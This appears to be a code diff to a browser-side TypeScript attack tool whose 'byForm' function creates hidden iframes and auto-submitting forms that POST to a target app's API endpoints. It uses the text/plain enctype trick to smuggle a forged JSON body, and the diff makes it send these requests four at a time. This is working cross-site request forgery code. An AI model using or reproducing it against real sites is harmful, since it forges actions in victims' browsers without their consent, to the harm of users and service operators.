@@ -57,37 +57,44 @@ export async function byRequest({ app, attempts, addresses }: Target): Promise<s
   return got;
 }
 
-/** Forms to a frame and to a page of their own: simple requests that need no leave. */
+/** Forms to a frame and to a page of their own: simple requests that need no leave. A few frames at a time. */
 export async function byForm({ app, attempts }: Target): Promise<string[]> {
   const got: string[] = [];
-  for (const [channel, body] of attempts) {
-    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
-      const frame = document.createElement('iframe');
-      frame.name = `f${String(Math.random())}`;
-      const form = document.createElement('form');
-      Object.assign(form, { method: 'POST', enctype, action: `${app}/api/${channel}`, target: frame.name });
-      // With text/plain the body is `name=value`, which can be made to be JSON.
-      const field = document.createElement('input');
-      field.name = body.replace(/\}$/u, body === '{}' ? '"x":"' : ',"x":"');
-      field.value = '"}';
-      form.append(field);
-      document.body.append(frame, form);
-      const loaded = new Promise((resolve) => {
-        frame.addEventListener('load', resolve);
-        setTimeout(resolve, 2000);
-      });
-      form.submit();
-      await loaded;
-      try {
-        const text = frame.contentDocument?.body.textContent ?? '';
-        if (text !== '') got.push(`form ${channel}: ${text}`);
-      } catch {
-        // Another origin: nothing was read.
-      }
-      frame.remove();
-      form.remove();
+  const send = async (channel: string, body: string, enctype: string): Promise<void> => {
+    const frame = document.createElement('iframe');
+    frame.name = `f${String(Math.random())}`;
+    const form = document.createElement('form');
+    Object.assign(form, { method: 'POST', enctype, action: `${app}/api/${channel}`, target: frame.name });
+    // With text/plain the body is `name=value`, which can be made to be JSON.
+    const field = document.createElement('input');
+    field.name = body.replace(/\}$/u, body === '{}' ? '"x":"' : ',"x":"');
+    field.value = '"}';
+    form.append(field);
+    document.body.append(frame, form);
+    const loaded = new Promise((resolve) => {
+      frame.addEventListener('load', resolve);
+      setTimeout(resolve, 2000);
+    });
+    form.submit();
+    await loaded;
+    try {
+      const text = frame.contentDocument?.body.textContent ?? '';
+      if (text !== '') got.push(`form ${channel}: ${text}`);
+    } catch {
+      // Another origin: nothing was read.
     }
-  }
+    frame.remove();
+    form.remove();
+  };
+  const waiting = attempts.flatMap(([channel, body]) =>
+    ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].map(
+      (enctype) => () => send(channel, body, enctype),
+    ),
+  );
+  const work = async (): Promise<void> => {
+    for (let next = waiting.shift(); next; next = waiting.shift()) await next();
+  };
+  await Promise.all(Array.from({ length: 4 }, work));
   return got;
 }
 
